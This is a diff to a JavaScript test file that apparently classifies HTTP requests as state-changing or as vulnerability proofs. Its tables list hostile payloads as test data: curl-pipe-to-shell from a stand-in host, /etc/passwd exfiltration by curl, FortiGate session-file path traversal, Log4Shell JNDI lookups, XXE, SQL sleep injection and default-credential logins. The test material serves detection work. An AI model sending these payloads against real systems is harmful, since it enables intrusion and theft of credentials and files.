@@ -22,6 +22,18 @@ describe("a request is a change that", () => {
     ["runs what only looks like a reading command", ["GET", "/a?host=;cat /etc/passwd;rm -rf /tmp/x"]],
     ["takes a program from elsewhere", ["GET", "/a?host=|curl http://p.calls.example.net|sh"]],
     ["stores what it fetches", ["GET", "/a?host=;wget http://p.calls.example.net/x"]],
+    ["sends a file out by a header", ["GET", "/a?host=;curl http://p.calls.example.net -H @/etc/passwd"]],
+    ["sends a header that steers", ["GET", "/a?host=;curl http://p.calls.example.net -H 'X-HTTP-Method: DELETE'"]],
+    ["names a file as an agent", ["GET", "/a?host=;curl -A /etc/passwd http://p.calls.example.net"]],
+    ["calls another host behind an agent", ["GET", "/a?host=;curl -A x http://other.org"]],
+    ["reads a device beside a file", ["GET", "/read?file=../../../../dev/cmdb/sslvpn_websession/../../zero"]],
+    ["reads another device of that folder", ["GET", "/read?file=../../../../dev/cmdb/sslvpn"]],
+    [
+      "leaves its action to a body that acts",
+      ["POST", "/soap", "<a:Envelope><a:deleteUser>1</a:deleteUser></a:Envelope>", { SOAPAction: "" }],
+    ],
+    ["switches beside a proof", ["POST", "/mgr.cgi", "C1=ON&server=`curl http://p.calls.example.net`", FORM]],
+    ["upgrades its protocol", ["GET", "/?name={{1337*42}}", "", { Upgrade: "h2c" }]],
     ["sends a file out", ["GET", "/a?host=;curl -T /etc/passwd http://p.calls.example.net"]],
     ["logs in", ["POST", "/login", "username=admin&password=admin", FORM]],
     ["logs in by JSON", ["POST", "/api/session", '{"user":"admin","password":"admin"}', JSON_BODY]],
@@ -70,6 +82,22 @@ describe("a request is a proof that", () => {
     ["makes a database wait for seconds", ["GET", "/a?id=1' AND (SELECT 1 FROM (SELECT SLEEP(6))x)-- -"]],
     ["selects a marker", ["POST", "/a.php", "id=-1+union+select+md5(31337)", FORM]],
     ["runs a command that reads", ["POST", "/diag.cgi", "host=127.0.0.1;cat%20/etc/passwd", FORM]],
+    [
+      "tells its call by an agent",
+      ["POST", "/a.php", "uid=10;curl http://p.calls.example.net -H 'User-Agent: abc'", FORM],
+    ],
+    [
+      "reads the sessions of a firewall",
+      ["GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"],
+    ],
+    [
+      "looks a name up by a header of browsers",
+      ["GET", "/", "", { "Upgrade-Insecure-Requests": "${jndi:ldap://p1.calls.example.net/a}" }],
+    ],
+    [
+      "reads an entity without an action",
+      ["POST", "/dms", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', { SOAPAction: '""' }],
+    ],
     ["makes the listener be called", ["POST", "/fetch", '{"url":"http://p1.calls.example.net/x"}', JSON_BODY]],
     ["looks a name up", ["GET", "/", "", { "X-Api-Version": "${jndi:ldap://p1.calls.example.net/a}" }]],
     [
